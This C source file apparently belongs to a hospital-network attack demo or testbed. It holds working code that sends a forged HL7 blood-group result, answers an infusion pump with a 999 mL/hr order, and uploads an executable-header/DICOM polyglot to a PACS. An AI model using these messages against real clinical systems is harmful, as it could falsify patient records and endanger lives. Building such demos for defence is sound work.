#include "demo/insider.h"

#include <arpa/inet.h>
#include <poll.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#include "demo/mllp.h"
#include "demo/transfer.h"

static const char forged[] = "MSH|^~\\&|" INSIDER_FORGED
			     "|WARD|LAB|HOSPITAL|20260131071500||ORU^R01^ORU_R01|F1|P|2.5.1\r"
			     "PID|1||DEMO-1^^^WARD^MR\rOBR|1||S1|883-9^ABO group^LN\r"
			     "OBX|1|CE|883-9^ABO group^LN||AB^AB^L||||||F\r";
static const char report[] =
	"MSH|^~\\&|PUMP-1|WARD|PUMPS|HOSPITAL|20260131071500||ORU^R01^ORU_R01|P1|P|2.6\r"
	"OBX|1|NM|157784^MDC_FLOW_FLUID_PUMP^MDC|1.1.1.1|4|265266^MDC_DIM_MILLI_L_PER_HR^MDC|||||"
	"R\r";
static const char order[] =
	"MSH|^~\\&|PUMPS|HOSPITAL|PUMP-1|WARD|20260131071501||RGV^O15^RGV_O15|O1|P|2.6\r"
	"RXG|1|||20260131071501||157784^MDC_FLOW_FLUID_PUMP^MDC|999||265266\r";

static struct bytes text(const char *t)
{
	return (struct bytes){(const uint8_t *)t, strlen(t)};
}

static int hang_up(struct mllp_link *l, int code)
{
	close(l->sock);
	free(l);
	return code;
}

int insider_forge(void *arg)
{
	const struct attacker *a = arg;
	struct mllp_link *l = mllp_reach(a->victim.ip, MLLP_PORT);

	if (!l)
		return 1;
	if (!mllp_send_message(l->sock, text(forged)))
		return hang_up(l, 1);
	return hang_up(l, !mllp_next_message(l).data);
}

int insider_pump(void *arg)
{
	const struct attacker *a = arg;
	struct mllp_link *l = mllp_reach(a->other.ip, INSIDER_PORT);
	struct bytes m = {NULL, 0};
	char type[32];

	if (!l)
		return 1;
	if (mllp_send_message(l->sock, text(report)))
		m = mllp_next_message(l);
	if (m.data) {
		mllp_field(m, "MSH", 9, type, sizeof(type));
		a->board->orders += !strncmp(type, "RGV", 3);
	}
	return hang_up(l, 0);
}

int insider_order(void *arg)
{
	const struct attacker *a = arg;
	struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(INSIDER_PORT)};
	int sock = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1;
	struct pollfd pfd = {.fd = sock, .events = POLLIN};
	struct mllp_link *l = calloc(1, sizeof(*l));

	setsockopt(sock, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (!l || bind(sock, (struct sockaddr *)&here, sizeof(here)) || listen(sock, 1) ||
	    poll(&pfd, 1, a->ms) <= 0)
		return 1;
	l->sock = accept(sock, NULL, NULL);
	close(sock);
	if (l->sock < 0 || !mllp_next_message(l).data)
		return hang_up(l, 1);
	mllp_send_message(l->sock, text(order));
	usleep(200000);
	return hang_up(l, 0);
}

/* DICOM PS3.10 §7.1: 128 bytes that are anybody's, here those of a program, and "DICM". */
static size_t polyglot(uint8_t *ret_image, size_t size)
{
	static const uint8_t element[] = {2, 0, 0, 0, 'U', 'L', 4, 0, 0, 0, 0, 0};
	struct writer w = writer_new(ret_image, size);

	memset(ret_image, 0, size);
	write_bytes(&w, "MZ\x90\0\3\0\0\0", 8);
	w.len = 60;
	write_bytes(&w, "\x80\0\0\0", 4); /* where the program's own head is */
	w.len = 128;
	write_bytes(&w, "DICM", 4);
	write_bytes(&w, element, sizeof(element));
	return size;
}

int insider_polyglot(void *arg)
{
	static const char head[] =
		"POST /instances HTTP/1.1\r\nHost: pacs-1\r\n"
		"Content-Type: application/dicom\r\nContent-Length: 4096\r\n\r\n";
	const struct attacker *a = arg;
	struct mllp_link *l = mllp_reach(a->victim.ip, INSIDER_STORE);
	uint8_t image[4096];
	char answer[16];

	if (!l)
		return 1;
	polyglot(image, sizeof(image));
	(void)!send(l->sock, head, sizeof(head) - 1, MSG_NOSIGNAL);
	(void)!send(l->sock, image, sizeof(image), MSG_NOSIGNAL);
	return hang_up(l, recv(l->sock, answer, sizeof(answer), 0) <= 0);
}

/* Counts an upload that is there to the last byte and begins as a program does. */
static void take_upload(struct board *b, int sock)
{
	static uint8_t all[8192];
	size_t len = 0;
	ssize_t n;

	while (len < sizeof(all) && (n = recv(sock, all + len, sizeof(all) - len, 0)) > 0) {
		const uint8_t *body;

		len += (size_t)n;
		body = memmem(all, len, "\r\n\r\n", 4);
		if (!body || len - (size_t)(body + 4 - all) < 4096)
			continue;
		b->programs += !memcmp(body + 4, "MZ", 2) && !memcmp(body + 132, "DICM", 4);
		(void)!send(sock, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
			    sizeof("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n") - 1,
			    MSG_NOSIGNAL);
		return;
	}
}

int insider_archive(void *arg)
{
	const struct attacker *a = arg;
	struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(INSIDER_STORE)};
	int sock = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1, peer;

	setsockopt(sock, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(sock, (struct sockaddr *)&here, sizeof(here)) || listen(sock, 1))
		return 1;
	while ((peer = accept(sock, NULL, NULL)) >= 0) {
		take_upload(a->board, peer);
		close(peer);
	}
	return 1;
}
